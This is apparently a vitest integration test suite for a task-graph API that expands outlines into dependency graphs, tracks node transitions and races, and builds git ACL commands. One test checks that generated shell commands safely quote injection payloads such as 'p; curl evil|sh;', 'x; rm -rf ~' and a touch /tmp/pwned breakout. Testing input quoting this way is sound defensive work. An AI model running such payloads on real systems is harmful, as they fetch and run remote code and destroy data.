/**
 * metagit RFC-0008 on the one engine (seed 001; docs/seeds/metagit.md §8 catalogue, docs/seeds/metagit.md §9 gaps): the RFC's
 * acceptance, the diamond, the Root/Child/Leaf outline, deterministic expand, refusals where
 * upstream misbehaves, the ACL binding without side effects, events, and races over HTTP.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp, type Client } from '../helpers/app.js';
import { scaled } from '../helpers/scale.js';

let t: TestApp;
let agent: Awaited<ReturnType<TestApp['session']>>;
let seq = 0;
beforeAll(async () => {
  t = await startTestApp();
  agent = await t.session({ name: 'metagit-agent' });
});
afterAll(async () => t?.close());

async function graph(c: Client = agent.client, extra: Record<string, unknown> = {}) {
  const graphId = `g${++seq}`;
  const r = await c.post('/v1/task-graphs', { graphId, title: `Graph ${seq}`, goal: 'Ship it.', ...extra });
  expect(r.status, JSON.stringify(r.body)).toBe(201);
  return graphId;
}
const expand = (id: string, outline: unknown, c: Client = agent.client) => c.post(`/v1/task-graphs/${id}/expand`, { outline });
const ready = async (id: string) => (await agent.client.get(`/v1/task-graphs/${id}/ready`)).body.nodes.map((n: any) => n.nodeId);
const act = (id: string, node: string, verb: string, body: unknown = {}, c: Client = agent.client) =>
  c.post(`/v1/task-graphs/${id}/nodes/${node}/${verb}`, body);
const events = async (id: string) =>
  (await t.admin.get(`/v1/events/log?topic=todo:metagit:${id}&limit=1000`)).body.events
    .filter((e: any) => /^Task/.test(e.event))
    .map((e: any) => `${e.event}${e.data.nodeId ? ` ${e.data.nodeId}` : ''}`);

describe('the RFC’s acceptance', () => {
  it('a graph of nodes with edges: ready returns only roots, completing a root unlocks its children', async () => {
    const id = await graph();
    const r = await expand(id, [
      { title: 'Root' },
      { title: 'Left', dependsOn: ['root'] },
      { title: 'Right', dependsOn: ['root'] },
      { title: 'Merge', dependsOn: ['left', 'right'] },
    ]);
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    expect(r.body.added.map((n: any) => n.nodeId)).toEqual(['root', 'left', 'right', 'merge']);
    expect(await ready(id)).toEqual(['root']);
    expect((await act(id, 'root', 'complete')).status).toBe(200);
    expect(await ready(id)).toEqual(['left', 'right']);
    await act(id, 'left', 'complete');
    expect(await ready(id)).toEqual(['right']);
    await act(id, 'right', 'complete');
    expect(await ready(id)).toEqual(['merge']);
    const done = await act(id, 'merge', 'complete');
    expect(done.body.graph.status).toBe('completed');
    expect(done.body.graph.nodes).toBeUndefined(); // a write answers its node and a summary, not every node
    expect(await events(id)).toEqual([
      'TaskGraphCreated',
      'TaskNodeCreated root',
      'TaskNodeCreated left',
      'TaskNodeCreated right',
      'TaskNodeCreated merge',
      'TaskReady root',
      'TaskCompleted root',
      'TaskReady left',
      'TaskReady right',
      'TaskCompleted left',
      'TaskCompleted right',
      'TaskReady merge',
      'TaskCompleted merge',
      'TaskGraphStatusChanged',
    ]);
  });

  it('a cycle in expand fails clearly, naming the cycle, and writes nothing', async () => {
    const id = await graph();
    const r = await expand(id, [
      { title: 'A', nodeId: 'a', dependsOn: ['b'] },
      { title: 'B', nodeId: 'b', dependsOn: ['a'] },
    ]);
    expect([r.status, r.body.code]).toEqual([422, 'dependency_cycle']);
    expect(r.body.ids).toEqual(['a', 'b', 'a']);
    expect((await agent.client.get(`/v1/task-graphs/${id}`)).body.graph.nodes).toEqual([]);
    const unknown = await expand(id, [{ title: 'C', dependsOn: ['ghost', 'phantom'] }]);
    expect([unknown.status, unknown.body.code, unknown.body.ids]).toEqual([422, 'dependency_not_found', ['ghost', 'phantom']]);
  });

  it('refuses the ids . and .. (graph, intent) and says which field an empty outline, title or goal is', async () => {
    for (const graphId of ['.', '..', '...']) {
      const r = await agent.client.post('/v1/task-graphs', { graphId, title: 't', goal: 'g' });
      expect([graphId, r.status, r.body.code]).toEqual([graphId, 400, 'validation_failed']);
    }
    const intent = await agent.client.post('/v1/intents', { intentId: '..', title: 't', goal: 'g' });
    expect([intent.status, intent.body.code]).toEqual([400, 'validation_failed']);
    const blank = await agent.client.post('/v1/intents', { title: ' ', goal: 'g' });
    expect([blank.status, blank.body.errors]).toEqual([400, [{ path: 'body.title', message: 'must not be empty' }]]);
    const empty = await expand(await graph(), '');
    expect([empty.status, empty.body.errors?.[0]?.path]).toEqual([400, 'body.outline']);
  });

  it('a node stores an ACL binding without calling git', async () => {
    const id = await graph();
    await expand(id, [{ title: 'Build API', project: 'demo', repository: 'service-a' }]);
    const r = await t.admin.put(`/v1/task-graphs/${id}/nodes/build-api/acl`, { agentId: 'agent-7' });
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    const node = r.body.node;
    expect(node.agentId).toBe('agent-7');
    expect(node.acl.branch).toBe('agent/build-api-build-api');
    const cmds = node.acl.commands.join('\n');
    expect(node.acl.commands.length).toBeGreaterThanOrEqual(3);
    for (const s of ['metagit branch allocate', 'demo/service-a', 'agent-7', 'build-api']) expect(cmds).toContain(s);
    expect(node.status).toBe('ready');
  });
});

describe('expand (docs/seeds/metagit.md §4, deterministic)', () => {
  it('Root / Child / Leaf: slug ids, each line depending on the nearest shallower line', async () => {
    const id = await graph();
    const r = await expand(id, 'Root\n  Child\n    Leaf\n');
    expect(r.body.added.map((n: any) => [n.nodeId, n.dependsOn])).toEqual([
      ['root', []],
      ['child', ['root']],
      ['leaf', ['child']],
    ]);
    expect(await ready(id)).toEqual(['root']);
  });

  it('the same outline twice gives -2 ids, and references follow the renamed nodes', async () => {
    const id = await graph();
    await expand(id, '- Root\n  - Child\n');
    const again = await expand(id, '- Root\n  - Child\n');
    expect(again.body.added.map((n: any) => n.nodeId)).toEqual(['root-2', 'child-2']);
    const nodes = Object.fromEntries((await agent.client.get(`/v1/task-graphs/${id}`)).body.graph.nodes.map((n: any) => [n.nodeId, n.dependsOn]));
    expect(nodes).toEqual({ root: [], child: ['root'], 'root-2': [], 'child-2': ['root-2'] });
    // A third time is just as deterministic.
    expect((await expand(id, '- Root\n  - Child\n')).body.added.map((n: any) => n.nodeId)).toEqual(['root-3', 'child-3']);
  });

  it('refuses a taken explicit id, an empty outline and invalid JSON, writing nothing', async () => {
    const id = await graph();
    await expand(id, [{ title: 'One', nodeId: 'one' }]);
    const taken = await expand(id, [{ title: 'Again', nodeId: 'one' }]);
    expect([taken.status, taken.body.code]).toEqual([409, 'node_id_taken']);
    expect((await expand(id, '   \n\n')).body.code).toBe('validation_failed');
    expect((await expand(id, '[{"title": "x", "bogus": 1}]')).body.code).toBe('validation_failed');
    expect((await expand(id, '[{"title": "a\\ud800b"}]')).body.code).toBe('validation_failed');
    expect((await expand(id, '[null, 1]')).body.code).toBe('validation_failed');
    expect((await agent.client.get(`/v1/task-graphs/${id}`)).body.graph.nodes.length).toBe(1);
    // Text that starts with `[` but is not a JSON list is an outline.
    expect((await expand(id, '[WIP] Root\n  Child')).body.added.map((n: any) => n.nodeId)).toEqual(['wip-root', 'child']);
  });

  it('accepts the RFC spellings node_id and depends_on beside nodeId and dependsOn, in a body list and in JSON text', async () => {
    const id = await graph();
    const rfc = await expand(id, [
      { title: 'Base', node_id: 'base' },
      { title: 'Top', node_id: 'top', depends_on: ['base'] },
    ]);
    expect(rfc.status).toBe(200);
    expect(rfc.body.added.map((n: any) => [n.nodeId, n.dependsOn])).toEqual([
      ['base', []],
      ['top', ['base']],
    ]);
    const camel = await expand(id, [{ title: 'Side', nodeId: 'side', dependsOn: ['top'] }]);
    expect(camel.body.added.map((n: any) => [n.nodeId, n.dependsOn])).toEqual([['side', ['top']]]);
    const text = await expand(id, '[{"title": "Tail", "node_id": "tail", "depends_on": ["side"]}]');
    expect(text.body.added.map((n: any) => [n.nodeId, n.dependsOn])).toEqual([['tail', ['side']]]);
    // One field spelled both ways is refused, in either form, and writes nothing.
    const both = await expand(id, [{ title: 'X', nodeId: 'x', node_id: 'x' }]);
    expect([both.status, both.body.code]).toEqual([400, 'validation_failed']);
    expect((await expand(id, '[{"title": "Y", "dependsOn": [], "depends_on": []}]')).body.code).toBe('validation_failed');
    expect((await agent.client.get(`/v1/task-graphs/${id}`)).body.graph.nodes.length).toBe(4);
  });
});

describe('transitions where upstream misbehaves (docs/seeds/metagit.md §9)', () => {
  it('start is a claim; completed and cancelled are terminal until an explicit reopen; a cancelled dependency is named', async () => {
    const id = await graph();
    await expand(id, 'Base\n  Top\n');
    expect((await act(id, 'top', 'start')).body.code).toBe('dependency_blocked');
    expect((await act(id, 'top', 'complete')).body.code).toBe('dependency_blocked');
    expect((await act(id, 'base', 'start')).status).toBe(200);
    const other = await t.session({ name: 'other', parentId: agent.id });
    expect((await act(id, 'base', 'start', {}, other.client)).body.code).toBe('already_claimed');
    expect((await act(id, 'base', 'complete', {}, other.client)).body.code).toBe('forbidden');
    await act(id, 'base', 'cancel');
    const top = (await agent.client.get(`/v1/task-graphs/${id}/nodes/top`)).body.node;
    expect(top).toMatchObject({
      status: 'pending',
      waitingOn: [{ nodeId: 'base', status: 'cancelled' }],
      blockerReason: 'waiting on cancelled dependencies: base',
    });
    expect((await act(id, 'base', 'complete')).body.code).toBe('invalid_transition');
    expect((await act(id, 'base', 'reopen')).status).toBe(200);
    expect(await ready(id)).toEqual(['base']);
    await act(id, 'base', 'block', { reason: 'waiting for credentials' });
    expect((await agent.client.get(`/v1/task-graphs/${id}/nodes/base`)).body.node).toMatchObject({
      status: 'blocked',
      blockerReason: 'waiting for credentials',
    });
    await act(id, 'base', 'complete');
    expect(await ready(id)).toEqual(['top']);
    expect((await act(id, 'base', 'complete')).body.code).toBe('invalid_transition');
  });

  it('the todo routes read the nodes but do not move them', async () => {
    const id = await graph();
    await expand(id, [{ title: 'Only' }]);
    const item = (await agent.client.get(`/v1/todos?scope=metagit:${id}`)).body.items[0];
    expect(item.title).toBe('Only');
    for (const path of ['claim', 'done', 'block', 'reopen'])
      expect((await agent.client.post(`/v1/todos/${item.id}/${path}`, {})).body.code).toBe('managed_by_graph');
    // next in the scope starts the first ready node, with the RFC's event.
    const next = await agent.client.post('/v1/todos/next', { scope: `metagit:${id}` });
    expect(next.body).toMatchObject({ claimed: true, item: { title: 'Only', status: 'in-progress' } });
    expect(await events(id)).toContain('TaskStarted only');
  });

  it('an outsider cannot tell the graph from a missing one', async () => {
    const id = await graph();
    const stranger = await t.session({ name: 'stranger' });
    for (const r of [
      await stranger.client.get(`/v1/task-graphs/${id}`),
      await stranger.client.post(`/v1/task-graphs/${id}/expand`, { outline: 'x' }),
      await stranger.client.get('/v1/task-graphs/nope'),
    ]) {
      expect([r.status, r.body.code]).toEqual([404, 'task_graph_not_found']);
    }
  });
});

describe('after review', () => {
  it('completed nodes survive retention; blocked pending nodes cannot be completed; dots are not ids', async () => {
    const id = await graph();
    await expand(id, [
      { title: 'D', nodeId: 'd' },
      { title: 'N', nodeId: 'n', dependsOn: ['d'] },
    ]);
    await act(id, 'n', 'block', { reason: 'x' });
    expect((await act(id, 'n', 'complete')).body.code).toBe('dependency_blocked');
    expect((await expand(id, [{ title: 'Dot', nodeId: '..' }])).status).toBe(400);
    await act(id, 'd', 'complete');
    await t.sql`update todos set updated_at = now() - interval '30 days' where scope = ${`metagit:${id}`}`;
    const { sweepRetention } = await import('../../src/sweeps/sweeps.js');
    await sweepRetention(t.sql, { ...t.config, todo: { ...t.config.todo, retentionMs: 1000 } });
    expect((await agent.client.get(`/v1/task-graphs/${id}`)).body.graph.nodes.map((n: any) => n.nodeId)).toEqual(['d', 'n']);
  });

  it('a cancelled graph hands out nothing until it is reopened', async () => {
    const id = await graph();
    await expand(id, 'Only');
    await agent.client.post(`/v1/task-graphs/${id}/cancel`);
    expect((await act(id, 'only', 'start')).body.code).toBe('invalid_transition');
    expect((await agent.client.post('/v1/todos/next', { scope: `metagit:${id}` })).body.claimed).toBe(false);
    expect((await agent.client.post(`/v1/task-graphs/${id}/reopen`)).body.graph.status).toBe('active');
    expect((await act(id, 'only', 'start')).status).toBe(200);
  });

  it('a stopped starter’s node comes back ready with TaskReopened and TaskReady; reopening a completed node demotes its dependents with TaskPending', async () => {
    const id = await graph();
    await expand(id, 'Root\n  Child');
    const worker = await t.session({ name: 'short-lived', parentId: agent.id });
    await act(id, 'root', 'start', {}, worker.client);
    await t.admin.post(`/v1/sessions/${worker.id}/stop`);
    expect(await ready(id)).toEqual(['root']);
    const ev = await events(id);
    expect(ev.slice(-2)).toEqual(['TaskReopened root', 'TaskReady root']);
    await act(id, 'root', 'complete');
    expect(await ready(id)).toEqual(['child']);
    await act(id, 'root', 'reopen');
    expect((await events(id)).slice(-3)).toEqual(['TaskReopened root', 'TaskReady root', 'TaskPending child']);
  });

  it('the ACL commands quote what a user wrote, and intents are as private as their graphs', async () => {
    const id = await graph();
    await expand(id, [{ title: 'Fix', nodeId: 'n1', project: 'p; curl evil|sh;', repository: 'r $(id)' }]);
    const r = await t.admin.put(`/v1/task-graphs/${id}/nodes/n1/acl`, { agentId: 'ag', branch: 'x; rm -rf ~', pattern: "'; touch /tmp/pwned; echo '" });
    expect(r.body.node.acl.commands[2]).toBe("metagit worktree create --repo 'p; curl evil|sh;/r $(id)' --branch 'x; rm -rf ~'");
    const stranger = await t.session({ name: 'intent-stranger' });
    expect((await stranger.client.get(`/v1/intents/intent-${id}`)).status).toBe(404);
    expect((await stranger.client.get('/v1/intents')).body.intents.map((i: any) => i.intentId)).not.toContain(`intent-${id}`);
  });

  it('complete cannot take a node another session just started through next', async () => {
    const id = await graph();
    await expand(id, 'Solo');
    const racer = await t.session({ name: 'racer', parentId: agent.id });
    await racer.client.post('/v1/todos/next', { scope: `metagit:${id}` });
    const r = await act(id, 'solo', 'complete');
    expect([r.status, r.body.code]).toEqual([403, 'forbidden']);
  });
});

describe('races over HTTP', () => {
  it(`16 agents starting the ready nodes of a 200-node graph start each exactly once (${scaled(50)} rounds)`, async () => {
    const agents = await Promise.all(Array.from({ length: 16 }, (_, i) => t.session({ name: `racer-${i}`, parentId: agent.id })));
    const outline = Array.from({ length: 200 }, (_, i) => `Node ${i}`).join('\n');
    for (let round = 0; round < scaled(50); round++) {
      const id = await graph();
      await expand(id, outline);
      const started: string[] = [];
      await Promise.all(
        agents.map(async (a) => {
          for (;;) {
            const r = await a.client.post('/v1/todos/next', { scope: `metagit:${id}` });
            if (!r.body.claimed) return;
            started.push(r.body.item.title);
          }
        }),
      );
      expect(started.length).toBe(200);
      expect(new Set(started).size).toBe(200);
      const g = (await agent.client.get(`/v1/task-graphs/${id}`)).body.graph;
      expect(g.counts.running).toBe(200);
      expect((await events(id)).filter((e: string) => e.startsWith('TaskStarted')).length).toBe(200);
    }
  }, 240_000);

  it('two concurrent completions of a node’s last two dependencies emit one TaskReady (20 rounds)', async () => {
    const other = await t.session({ name: 'second', parentId: agent.id });
    for (let round = 0; round < 20; round++) {
      const id = await graph();
      await expand(id, [{ title: 'A' }, { title: 'B' }, { title: 'C', dependsOn: ['a', 'b'] }]);
      await act(id, 'a', 'start');
      await act(id, 'b', 'start', {}, other.client);
      await Promise.all([act(id, 'a', 'complete'), act(id, 'b', 'complete', {}, other.client)]);
      expect((await events(id)).filter((e: string) => e === 'TaskReady c').length).toBe(1);
      expect(await ready(id)).toEqual(['c']);
    }
  });
});
